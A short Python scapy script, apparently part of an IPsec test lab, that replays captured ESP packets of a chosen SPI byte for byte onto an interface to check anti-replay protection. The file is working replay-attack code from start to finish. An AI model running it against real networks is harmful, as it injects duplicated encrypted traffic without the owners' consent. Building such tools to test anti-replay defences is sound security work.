#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
r"""Resend ESP packets captured on the wire, byte for byte: the replay attack.

    resend_esp.py --pcap FILE --iface wan0 --spi 1000 [--src 198.51.100.1]

Sends the IP datagram of every ESP packet of SPI in FILE (from SRC when given), unchanged and
in capture order, and prints how many and their sequence numbers.  The attacker needs no key:
only anti-replay stops these.  Run with Debian's /usr/bin/python3 inside the attacker
namespace.
"""

import argparse
import sys

from scapy.config import conf
from scapy.layers.inet import IP
from scapy.sendrecv import send
from scapy.utils import rdpcap
from scapy.layers.ipsec import ESP

conf.verb = 0


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--pcap", required=True)
    ap.add_argument("--iface", required=True)
    ap.add_argument("--spi", type=int, required=True)
    ap.add_argument("--src", default="")
    a = ap.parse_args()

    pkts = [p[IP] for p in rdpcap(a.pcap)
            if IP in p and ESP in p and p[ESP].spi == a.spi and (not a.src or p[IP].src == a.src)]
    if not pkts:
        print("no ESP packet of SPI %d in %s" % (a.spi, a.pcap), file=sys.stderr)
        return 1
    send([IP(bytes(p)) for p in pkts], iface=a.iface, inter=0.01)
    print("resent %d: seq %s" % (len(pkts), ",".join(str(p[ESP].seq) for p in pkts)))
    return 0


if __name__ == "__main__":
    sys.exit(main())
